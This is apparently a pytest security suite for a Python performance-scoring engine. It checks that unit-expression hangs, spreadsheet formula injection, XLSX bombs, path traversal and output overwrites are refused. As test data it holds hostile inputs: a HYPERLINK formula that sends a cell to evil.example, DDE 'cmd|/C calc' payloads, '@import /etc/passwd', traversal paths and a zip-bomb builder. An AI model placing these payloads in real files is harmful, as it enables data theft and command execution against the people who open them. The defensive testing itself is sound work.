"""Hostile inputs around the formula sandbox (issue 12, "safe to expose"): unit text, spreadsheets written and
read, rule files reaching outside their folder, data text taken as a path, outputs overwritten.

Each finding is a test that failed before its fix. What could hang or exhaust the process runs in a child
process with a memory limit (`resource.RLIMIT_AS`) and a timeout, so a regression fails the test instead of
freezing or killing the suite. The limits themselves live in `kinerja.safety.Limits` (docs/penolakan.md §5).
"""

from __future__ import annotations

import csv
import dataclasses
import io
import json
import os
import subprocess
import sys
import textwrap
import time
import zipfile
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from typer.testing import CliRunner

import kinerja
from kinerja import safety
from kinerja.cli import app
from kinerja.errors import DataError, RuleError
from kinerja.report.template import TemplateRow, render_template_csv
from kinerja.report.xlsx import render_template_xlsx
from kinerja.units import Units, UnitTextError
from strategies import one_indicator_plan, write_plan

ROOT = Path(__file__).resolve().parents[1]
ENGINE = Path(kinerja.__file__).resolve().parents[1]  # the engine under test (also for child processes)
MEMORY = 1536 * 2**20  # bytes of address space for a child process: numpy, pint and openpyxl fit easily
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")

INDICATOR = {"id": "iku_a", "nama": "Kegiatan A", "jenis": "jumlah", "satuan": "giat", "target_tw": [4, 4, 4, 4]}


def bounded(code: str, timeout: float = 60, memory: int = MEMORY, cwd: Path | None = None) -> dict[str, Any]:
    """Run `code` in a child Python with this tree's engine, limited in memory and time. The code prints
    one JSON line last; returns it (or {"timeout": True} / {"crash": stderr})."""
    prelude = (
        "import resource, json, sys\n"
        f"resource.setrlimit(resource.RLIMIT_AS, ({memory}, {memory}))\n"
        f"sys.path.insert(0, {str(ENGINE)!r}); sys.path.insert(0, {str(ROOT / 'tests')!r})\n"
    )
    env = {**os.environ, "PYTHONPATH": str(ENGINE)}
    try:
        proc = subprocess.run(
            [sys.executable, "-c", prelude + textwrap.dedent(code)],
            capture_output=True,
            text=True,
            timeout=timeout,
            env=env,
            cwd=cwd or ROOT,
        )
    except subprocess.TimeoutExpired:
        return {"timeout": True}
    lines = [x for x in proc.stdout.splitlines() if x.startswith("{")]
    if proc.returncode != 0 or not lines:
        return {"crash": proc.stderr[-2000:], "rc": proc.returncode}
    return dict(json.loads(lines[-1]))


def codes(e: RuleError) -> list[str]:
    return [p.code for p in e.problems]


# ------------------------------------------------------------------------------------------- 1+2: unit text


@pytest.mark.parametrize(
    "unit",
    ["giat * 9**9**9", "giat ** 999999999", "x" * 100_000, "giat * " * 2000 + "giat", "(giat)", "100 giat"],
    ids=["power-tower", "huge-power", "100kb-word", "long-product", "brackets", "number"],
)
def test_unit_text_in_rule_file_is_refused_at_once(tmp_path: Path, unit: str) -> None:
    """Finding 2: `satuan = "giat * 9**9**9"` in a rule file hung loading; a 100 KB word took 74 s."""
    one_indicator_plan(tmp_path / "p", {**INDICATOR, "satuan": unit})
    out = bounded(
        f"""
        import kinerja, time
        t = time.perf_counter()
        try:
            kinerja.load_plan({str(tmp_path / "p")!r})
            found = []
        except kinerja.RuleError as e:
            found = [(p.code, p.path, len(p.message('id')), len(p.message('en'))) for p in e.problems]
        print(json.dumps({{"found": found, "seconds": time.perf_counter() - t}}))
        """,
        timeout=30,
    )
    assert "found" in out, out
    assert out["seconds"] < 15  # a safety bound on a busy machine: before, this hung or took 74 s
    assert [c for c, *_ in out["found"]] in (["unit-syntax"], ["unit-too-long"], ["unit-exponent"]), out
    assert all(path.endswith("satuan") for _, path, *_ in out["found"])
    assert all(n_id < 500 and n_en < 500 for *_, n_id, n_en in out["found"])  # the text is never echoed whole


def test_unit_text_in_data_is_refused_row_by_row(tmp_path: Path) -> None:
    """Finding 2, in data: the unit after a number goes through the same grammar; other rows are scored."""
    one_indicator_plan(tmp_path / "p", INDICATOR)
    out = bounded(
        f"""
        import kinerja, time
        plan = kinerja.load_plan({str(tmp_path / "p")!r})
        data = {{"iku_a": {{"TW1": "3 giat * 9**9**9", "TW2": "3 " + "x" * 100_000, "TW3": "2 kegiatan"}}}}
        t = time.perf_counter()
        card = plan.score(data, "2025")
        print(json.dumps({{
            "seconds": time.perf_counter() - t,
            "codes": sorted(p.code for p in card.problems),
            "longest": max(len(p.message("id")) for p in card.problems),
            "tw3": plan.bind(data).values[("iku_a", "TW3")].value,
        }}))
        """,
        timeout=30,
    )
    assert "codes" in out, out
    assert out["seconds"] < 15
    assert out["codes"] == ["unit-syntax", "unit-too-long"]
    assert out["longest"] < 500
    assert out["tw3"] == 2.0


def test_unit_grammar_accepts_the_units_plans_use() -> None:
    units = Units()
    same = {
        "kasus / penduduk": "kasus / penduduk",
        "kasus per penduduk": "kasus / penduduk",
        "Kasus × Penduduk": "kasus * penduduk",
        "kasus penduduk": "kasus * penduduk",
        "giat^2": "giat ** 2",
        "giat**-2 * giat": "1 / giat",
        "%": "persen",
        "‰": "permil",
        "lp": "kasus",
    }
    for text, want in same.items():
        assert str(units.parse(text)) == want, text
    with pytest.raises(ValueError) as e:
        units.parse("giatt")
    assert not isinstance(e.value, UnitTextError)  # an unknown name stays "unknown unit"


def test_bad_unit_texts_do_not_keep_request_data_alive() -> None:
    """Finding 1: the cached exception of a unit typo kept each request's data alive (1 MB per request).

    Every "request" holds 100 KB of its own data in its frames while a unit typo is refused; after 1,000
    requests (the same typo, and 1,000 different ones) traced memory must stay flat."""
    out = bounded(
        """
        import gc, tracemalloc
        from kinerja.units import Units
        units = Units()

        def request(i, text):
            payload = bytearray(100_000)  # the request's own data, alive in this frame while it is scored
            try:
                units.parse(text)
            except ValueError:
                return len(payload)

        request(0, "giatt"); request(0, "gait")
        gc.collect()
        tracemalloc.start()
        base = tracemalloc.get_traced_memory()[0]
        for i in range(1000):
            request(i, "giatt")
            request(i, f"giat_{i}x")
            request(i, "giat ** 99")  # refused by the grammar (power too large)
        gc.collect()
        grown = tracemalloc.get_traced_memory()[0] - base
        print(json.dumps({"grown": grown}))
        """,
        timeout=120,
    )
    assert "grown" in out, out
    assert out["grown"] < 3 * 2**20, f"{out['grown'] / 2**20:.1f} MiB kept after 1,000 bad unit texts"


def test_bad_unit_texts_through_scoring_keep_memory_flat(tmp_path: Path) -> None:
    """Finding 1 end to end: 1,000 scorings with unit typos in the data, RSS of the process flat."""
    one_indicator_plan(tmp_path / "p", INDICATOR)
    out = bounded(
        f"""
        import gc, resource, kinerja
        plan = kinerja.load_plan({str(tmp_path / "p")!r})

        def rss():
            gc.collect()
            return int(open("/proc/self/statm").read().split()[1]) * resource.getpagesize()

        def request(i):
            rows = [{{"id": "iku_a", "periode": "TW1", "realisasi": f"3 giatt{{i % 7}}", "keterangan": "x" * 50_000}}]
            return len(plan.score(rows, "TW1").problems)

        for i in range(50):
            request(i)
        before = rss()
        for i in range(1000):
            request(i)
        print(json.dumps({{"grown": rss() - before}}))
        """,
        timeout=120,
    )
    assert "grown" in out, out
    assert out["grown"] < 20 * 2**20, f"{out['grown'] / 2**20:.1f} MiB more after 1,000 scorings"


def test_plan_unit_definitions_are_checked_before_pint(tmp_path: Path) -> None:
    """Finding 2 and 6 in a plan's satuan.txt: an expression in a definition hung pint; `@import` read any file."""
    for text in ("x = 9**9**8 * giat\n", "@import /etc/passwd\n", "y = (giat)\n"):
        folder = one_indicator_plan(tmp_path / f"p{len(text)}", INDICATOR)
        (folder / "satuan.txt").write_text(text, encoding="utf-8")
        out = bounded(
            f"""
            import kinerja
            try:
                kinerja.load_plan({str(folder)!r}); found = []
            except kinerja.RuleError as e:
                found = [p.code for p in e.problems]
            print(json.dumps({{"found": found}}))
            """,
            timeout=30,
        )
        assert out.get("found") == ["unit-definition"], (text, out)
    good = one_indicator_plan(tmp_path / "good", {**INDICATOR, "satuan": "patroli"})
    long_comment = "# " + "catatan panjang " * 30 + "\n"
    (good / "satuan.txt").write_text(
        long_comment + "patroli = [patroli] = ptr  # ok\nregu = 2.5 * patroli / jam\n", "utf-8"
    )
    assert str(kinerja.load_plan(good).node("iku_a").unit_obj) == "patroli"


# ------------------------------------------------------------------------------------------- 4: formula injection

TEXT = st.text(
    alphabet=st.characters(blacklist_categories=("Cs", "Cc"), blacklist_characters="\x7f") | st.sampled_from(TRIGGERS),
    max_size=30,
)
RISKY = st.one_of(TEXT, st.tuples(st.sampled_from(TRIGGERS), TEXT).map("".join))


def _assert_xlsx_inert(data: bytes) -> int:
    """Every cell of the workbook: never a formula; text a spreadsheet could take as one is quote-prefixed."""
    wb = openpyxl.load_workbook(io.BytesIO(data))
    risky = 0
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and cell.value.startswith(TRIGGERS):
                    assert cell.quotePrefix, (ws.title, cell.coordinate, cell.value)
                    risky += 1
    return risky


def _assert_csv_inert(text: str, delimiter: str) -> int:
    risky = 0
    for row in csv.reader(io.StringIO(text), delimiter=delimiter):
        for cell in row:
            if cell.startswith(TRIGGERS):
                assert safety._PLAIN_NUMBER.fullmatch(cell), cell  # only a number may start with - or +
                risky += 1
    return risky


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(st.tuples(RISKY, RISKY, RISKY, RISKY), min_size=1, max_size=5))
def test_no_text_cell_written_starts_a_formula(cells: list[tuple[str, str, str, str]]) -> None:
    """Finding 4, property: whatever text names, units, targets and notes hold, no cell of the written
    template (XLSX read back with openpyxl, CSV read back with csv) starts a formula."""
    rows = [
        TemplateRow(f"iku_{i}", name, unit, target, "TW1", "indikator", note)
        for i, (name, unit, target, note) in enumerate(cells)
    ]
    workbook = render_template_xlsx(rows)
    _assert_xlsx_inert(workbook)
    _assert_csv_inert(render_template_csv(rows), ";")
    # the text itself is kept exactly (XML reads a carriage return as a line break)
    wb = openpyxl.load_workbook(io.BytesIO(workbook))
    assert [c.value or "" for c in wb.active["B"][1:]] == [r.name.replace("\r", "\n") for r in rows]


def test_score_reports_have_no_live_formulas(tmp_path: Path) -> None:
    """Finding 4 end to end: names, numbers (`nomor`), predicate-like text and units from `--by unit` data
    that begin with = + - @ are written as text in the LKIP workbook and in every CSV."""
    hyperlink = '=HYPERLINK("http://evil.example/?"&A1,"klik")'
    indicator = {**INDICATOR, "nama": hyperlink, "nomor": "+1"}
    folder = write_plan(
        tmp_path / "p",
        [{"id": "ss_uji", "nama": "@SUM(1+1)*cmd|' /C calc'!A0", "nomor": "-2+3", "indikator": [indicator]}],
    )
    data = tmp_path / "data.csv"
    data.write_text("id;periode;realisasi;keterangan\niku_a;TW1;3;=1+1\n", encoding="utf-8")
    runner = CliRunner()
    r = runner.invoke(app, ["score", str(folder), "-d", str(data), "-p", "TW1", "-o", str(tmp_path / "r.xlsx")])
    assert r.exit_code == 0, r.output
    assert _assert_xlsx_inert((tmp_path / "r.xlsx").read_bytes()) >= 3
    wb = openpyxl.load_workbook(tmp_path / "r.xlsx")
    assert hyperlink in [c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row]  # kept exactly
    r = runner.invoke(app, ["score", str(folder), "-d", str(data), "-p", "TW1", "-f", "csv"])
    assert r.exit_code == 0, r.output
    _assert_csv_inert(r.stdout, ";")  # "+1" (a number) may stay; the rest is escaped:
    assert "'-2+3" in r.stdout and "'@SUM" in r.stdout
    assert f"'{hyperlink}".replace('"', '""') in r.stdout
    long = tmp_path / "long.csv"
    long.write_text("unit;id;periode;realisasi\n=cmd|'/C calc'!A0;iku_a;TW1;3\n-1;iku_a;TW1;-2\n", encoding="utf-8")
    r = runner.invoke(app, ["score", str(folder), "-d", str(long), "-p", "TW1", "--by", "unit", "-f", "csv"])
    assert r.exit_code == 0, r.output
    assert "'=cmd" in r.stdout and _assert_csv_inert(r.stdout, ";") >= 1  # "-1" is a number and stays one
    r = runner.invoke(app, ["template", str(folder), "-p", "TW1", "-o", str(tmp_path / "t.xlsx")])
    assert r.exit_code == 0, r.output
    assert _assert_xlsx_inert((tmp_path / "t.xlsx").read_bytes()) >= 1


def test_numbers_stay_numbers() -> None:
    assert [safety.csv_cell(v) for v in ("-3", "-3,5", "-1.234,5", "+2", "-1e-05", "45%", -3.0, 7)] == [
        "-3", "-3,5", "-1.234,5", "+2", "-1e-05", "45%", -3.0, 7,
    ]  # fmt: skip
    assert [safety.csv_cell(v) for v in ("-", "-2+3", "=1", "@x", "\tx", "\rx", "x=1")] == [
        "'-", "'-2+3", "'=1", "'@x", "'\tx", "\nx", "x=1",
    ]  # fmt: skip


# ------------------------------------------------------------------------------------------- 5: XLSX bombs


def _workbook(sheet_xml: str, shared: str | None = None) -> bytes:
    """A minimal XLSX: one sheet with the given XML body (compressed), as a spreadsheet program writes it."""
    buf = io.BytesIO()
    ns = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
    rel = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
    pkg = "http://schemas.openxmlformats.org/package/2006/relationships"
    odr = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr(
            "[Content_Types].xml",
            '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/>'
            '<Override PartName="/xl/workbook.xml" '
            'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
            '<Override PartName="/xl/worksheets/sheet1.xml" '
            'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>',
        )
        z.writestr(
            "_rels/.rels",
            f'<?xml version="1.0"?><Relationships xmlns="{pkg}">'
            f'<Relationship Id="rId1" Type="{odr}/officeDocument" Target="xl/workbook.xml"/></Relationships>',
        )
        z.writestr(
            "xl/workbook.xml",
            f'<?xml version="1.0"?><workbook {ns} {rel}><sheets><sheet name="data" sheetId="1" r:id="rId1"/>'
            "</sheets></workbook>",
        )
        z.writestr(
            "xl/_rels/workbook.xml.rels",
            f'<?xml version="1.0"?><Relationships xmlns="{pkg}">'
            f'<Relationship Id="rId1" Type="{odr}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>',
        )
        z.writestr("xl/worksheets/sheet1.xml", f'<?xml version="1.0"?><worksheet {ns}>{sheet_xml}</worksheet>')
    return buf.getvalue()


def _inline(ref: str, text: str) -> str:
    return f'<c r="{ref}" t="inlineStr"><is><t>{text}</t></is></c>'


HEADER = '<row r="1">' + _inline("A1", "id") + _inline("B1", "periode") + _inline("C1", "realisasi") + "</row>"
GOOD_ROW = '<row r="2">' + _inline("A2", "iku_a") + _inline("B2", "TW1") + '<c r="C2"><v>3</v></c></row>'

BOMBS = {
    # one row numbered 1,048,576 and a dimension of 16,384 columns: openpyxl pads every row in between
    "sparse-rows": f'<dimension ref="A1:XFD1048576"/><sheetData>{HEADER}{GOOD_ROW}'
    '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>',
    # 20 million rows in a few MB: too many rows
    "many-rows": "<sheetData>" + HEADER + "<row/>" * 200_000 + "</sheetData>",
    # a 150 MB cell that compresses to almost nothing
    "huge-cell": f"<sheetData>{HEADER}<row>{_inline('A2', 'a' * (150 * 2**20))}</row></sheetData>",
    # a cell of 20,000 characters: over the cell limit
    "long-cell": f"<sheetData>{HEADER}<row>{_inline('A2', 'b' * 20_000)}</row></sheetData>",
    "wide": f"<sheetData>{HEADER}<row>{_inline('ZZ2', 'x')}</row></sheetData>",
}


@pytest.mark.parametrize("kind", sorted(BOMBS))
def test_xlsx_bombs_are_refused_before_loading(tmp_path: Path, kind: str) -> None:
    """Finding 5: a 1 MB workbook grew to 3.5 GiB; one with 20 million rows ran without bound."""
    path = tmp_path / f"{kind}.xlsx"
    path.write_bytes(_workbook(BOMBS[kind]))
    assert path.stat().st_size < 2 * 2**20
    out = bounded(
        f"""
        import kinerja, time
        t = time.perf_counter()
        try:
            kinerja.read_realisasi({str(path)!r}); found = []
        except kinerja.DataError as e:
            found = [(p.code, p.args.get("what"), p.message("id")) for p in e.problems]
        print(json.dumps({{"found": found, "seconds": time.perf_counter() - t}}))
        """,
        timeout=60,
        memory=1024 * 2**20,
    )
    assert "found" in out, out
    assert out["seconds"] < 10
    assert [code for code, *_ in out["found"]] == ["data-limit"], out
    assert "paling banyak" in out["found"][0][2]


def test_ordinary_workbook_still_reads(tmp_path: Path) -> None:
    path = tmp_path / "ok.xlsx"
    path.write_bytes(_workbook(f'<dimension ref="A1:C2"/><sheetData>{HEADER}{GOOD_ROW}</sheetData>'))
    data = kinerja.read_realisasi(path)
    assert [(r.id, r.period, r.raw) for r in data.rows] == [("iku_a", "TW1", 3)]


def test_limits_are_configurable(tmp_path: Path) -> None:
    path = tmp_path / "ok.xlsx"
    path.write_bytes(_workbook(f"<sheetData>{HEADER}{GOOD_ROW}</sheetData>"))
    before = safety.LIMITS
    try:
        safety.configure(xlsx_rows=1)
        with pytest.raises(DataError) as e:
            kinerja.read_realisasi(path)
        assert e.value.problems[0].args["what"] == "rows in one sheet"
    finally:
        safety.LIMITS = before
    assert len(kinerja.read_realisasi(path).rows) == 1


# ------------------------------------------------------------------------------------------- 6: rule files outside


def _refused(folder: Path, **kw: Any) -> list[str]:
    with pytest.raises(RuleError) as e:
        kinerja.load_plan(folder, **kw)
    return codes(e.value)


def _including(folder: Path, name: str) -> Path:
    return one_indicator_plan(
        folder,
        INDICATOR,
        {"id": "iku_std", "nama": "Standar", "satuan": "poin", "sertakan": {"aturan": name}},
    )


def _rule_set(folder: Path) -> Path:
    """A tiny rule set that can be included (`hasil` names its result)."""
    write_plan(folder, [{"id": "std_a", "nama": "A", "jenis": "jumlah", "satuan": "poin", "target": 1}], hasil="std_a")
    return folder


def test_includes_stay_inside_the_rule_roots(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Finding 6: `sertakan` accepted `../other` and absolute paths, and searched the working directory."""
    other = _rule_set(tmp_path / "other")
    assert _refused(_including(tmp_path / "a", "../other")) == ["path-outside"]
    assert _refused(_including(tmp_path / "b", str(other))) == ["path-outside"]
    monkeypatch.chdir(tmp_path)  # `other` sits in the working directory: never searched
    assert _refused(_including(tmp_path / "c" / "plan", "other")) == ["file-missing"]
    # a link inside the plan folder that points out of it is not followed
    plan = _including(tmp_path / "d", "std")
    (plan / "std").symlink_to(other, target_is_directory=True)
    assert _refused(plan) == ["file-missing"]
    # declared roots work: the caller's, and a rule set inside the plan folder
    assert kinerja.load_plan(_including(tmp_path / "e", "other"), roots=[tmp_path]).included[0]["id"] == "uji"
    _rule_set(tmp_path / "f" / "std")
    assert len(kinerja.load_plan(_including(tmp_path / "f", "std")).included) == 1


def test_profile_and_unit_file_paths_are_refused(tmp_path: Path) -> None:
    """Finding 6: `profil` took an absolute path and echoed the file in its error; `satuan = "/etc/passwd"`."""
    secret = tmp_path / "rahasia.toml"
    secret.write_text('kata_sandi = "s3cr3t-kinerja"\n', encoding="utf-8")
    for name in (str(secret)[:-5], "../rahasia", "..\\rahasia"):
        folder = one_indicator_plan(tmp_path / f"p{abs(hash(name))}", INDICATOR)
        (folder / "rencana.toml").write_text(
            (folder / "rencana.toml").read_text("utf-8").replace('"permenpanrb-8-2021"', json.dumps(name)), "utf-8"
        )
        with pytest.raises(RuleError) as e:
            kinerja.load_plan(folder)
        assert codes(e.value) == ["path-outside"]
        assert "s3cr3t" not in str(e.value)
    for units_file in ("/etc/passwd", "../rahasia.toml"):
        folder = one_indicator_plan(tmp_path / f"u{abs(hash(units_file))}", INDICATOR)
        (folder / "rencana.toml").write_text(
            (folder / "rencana.toml").read_text("utf-8") + f"satuan = {json.dumps(units_file)}\n", "utf-8"
        )
        assert _refused(folder) == ["path-outside"]


def test_links_out_of_the_plan_folder_are_refused(tmp_path: Path) -> None:
    outside = tmp_path / "outside.toml"
    outside.write_text('[[sasaran]]\nid = "ss_x"\nnama = "X"\n', encoding="utf-8")
    folder = one_indicator_plan(tmp_path / "p", INDICATOR)
    (folder / "02-link.toml").symlink_to(outside)
    assert _refused(folder) == ["path-outside"]
    (folder / "02-link.toml").unlink()
    (folder / "02-link.toml").symlink_to(folder / "01-sasaran.toml")  # a link inside the folder is fine
    with pytest.raises(RuleError) as e:  # ... and reads the same goal again: a duplicate id, not a refusal
        kinerja.load_plan(folder)
    assert set(codes(e.value)) == {"duplicate-id"}


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no FIFOs on this platform")
def test_fifo_in_plan_folder_does_not_block(tmp_path: Path) -> None:
    """Finding 6: a FIFO named x.toml in a plan folder blocked loading forever; it is refused unopened."""
    folder = one_indicator_plan(tmp_path / "p", INDICATOR)
    os.mkfifo(folder / "x.toml")
    (folder / "y.toml").mkdir()
    out = bounded(
        f"""
        import kinerja
        try:
            kinerja.load_plan({str(folder)!r}); found = []
        except kinerja.RuleError as e:
            found = sorted((p.code, p.file) for p in e.problems)
        print(json.dumps({{"found": found}}))
        """,
        timeout=20,
    )
    assert [c for c, _ in out.get("found", [])] == ["file-special", "file-special"], out


def test_bundled_standard_rules_still_resolve() -> None:
    plan = kinerja.load_plan(ROOT / "rules" / "polres-banjar-2025")
    assert [i["rules"] for i in plan.included] == ["standar/ikpa-2024"]


# ------------------------------------------------------------------------------------------- 7: text as a path


def test_request_text_is_never_a_path(tmp_path: Path) -> None:
    """Finding 7: `read_realisasi("...")` with text from a request read a server file."""
    secret = tmp_path / "server.csv"
    secret.write_text("id;periode;realisasi\niku_rahasia;TW1;42\n", encoding="utf-8")
    with pytest.raises(DataError) as e:
        kinerja.read_realisasi_content(str(secret))  # the text of a path is content, read as CSV
    assert codes(e.value) == ["data-missing-column"]
    with pytest.raises(DataError):
        kinerja.read_realisasi(str(secret).encode())  # bytes are content too
    body = "id;periode;realisasi\niku_a;TW1;3\n"
    assert [r.id for r in kinerja.read_realisasi(body.encode()).rows] == ["iku_a"]
    assert [r.id for r in kinerja.read_realisasi_content(body, "csv").rows] == ["iku_a"]
    assert [
        r.id for r in kinerja.read_realisasi_content('[{"id": "iku_a", "periode": "TW1", "realisasi": 3}]').rows
    ] == ["iku_a"]
    xlsx = _workbook(f"<sheetData>{HEADER}{GOOD_ROW}</sheetData>")
    assert [r.id for r in kinerja.read_realisasi(xlsx).rows] == ["iku_a"]
    assert [r.id for r in kinerja.read_realisasi(secret).rows] == ["iku_rahasia"]  # a Path is a path
    assert [r.id for r in kinerja.read_realisasi(str(secret)).rows] == ["iku_rahasia"]  # str: as before (CLI)


# ------------------------------------------------------------------------------------------- 8: outputs


def test_outputs_never_replace_a_file_silently(tmp_path: Path) -> None:
    """Finding 8: `template -o filled.xlsx` replaced a filled template; `-o` equal to the input replaced it."""
    folder = one_indicator_plan(tmp_path / "p", INDICATOR)
    runner = CliRunner()
    filled = tmp_path / "isian.csv"
    filled.write_text("id;periode;realisasi\niku_a;TW1;3\n", encoding="utf-8")
    before = filled.read_bytes()
    r = runner.invoke(app, ["template", str(folder), "-p", "TW1", "-o", str(filled)])
    assert r.exit_code == 1 and "--force" in r.output
    assert filled.read_bytes() == before
    r = runner.invoke(app, ["score", str(folder), "-d", str(filled), "-p", "TW1", "-o", str(filled), "--force"])
    assert r.exit_code == 1 and filled.read_bytes() == before  # an input: never, even with --force
    r = runner.invoke(app, ["catalogue", str(folder), "-o", str(folder / "rencana.toml"), "--force"])
    assert r.exit_code == 1 and "[rencana]" in (folder / "rencana.toml").read_text("utf-8")
    r = runner.invoke(app, ["template", str(folder), "-p", "TW1", "-o", str(filled), "--force"])
    assert r.exit_code == 0, r.output
    assert filled.read_text("utf-8").startswith("id;nama;satuan")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["isian.csv", "p"]  # no temporary file left


def test_a_failed_write_leaves_the_old_file(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Finding 8: a failed or killed write left a truncated file. The content goes to a temporary file that
    replaces the target only once it is complete."""
    target = tmp_path / "laporan.html"
    target.write_text("lama", encoding="utf-8")

    def boom(*a: Any) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(os, "fsync", boom)
    with pytest.raises(OSError):
        safety.write_output(target, "baru" * 1000, force=True)
    assert target.read_text("utf-8") == "lama"
    assert [p.name for p in tmp_path.iterdir()] == ["laporan.html"]
    monkeypatch.undo()
    safety.write_output(target, "baru", force=True)
    assert target.read_text("utf-8") == "baru"
    with pytest.raises(RuleError) as e:
        safety.write_output(target, "lagi")
    assert codes(e.value) == ["output-exists"]


def test_every_limit_is_documented() -> None:
    """docs/penolakan.md §5 lists every limit by its name in `Limits`, with its default."""
    text = (ROOT / "docs" / "penolakan.md").read_text(encoding="utf-8")
    for f in dataclasses.fields(safety.Limits):
        assert f"`{f.name}`" in text, f.name
        value = f.default
        assert isinstance(value, int)
        shown = f"{value // 2**20} MiB" if value % 2**20 == 0 else f"{value:,}".replace(",", ".")
        assert f"**{shown}**" in text, (f.name, shown)


def test_time_bound_helper_sees_a_hang() -> None:
    """The bound itself can fail: a child that never finishes is reported, not waited for."""
    t = time.perf_counter()
    assert bounded("while True: pass", timeout=2) == {"timeout": True}
    assert time.perf_counter() - t < 10
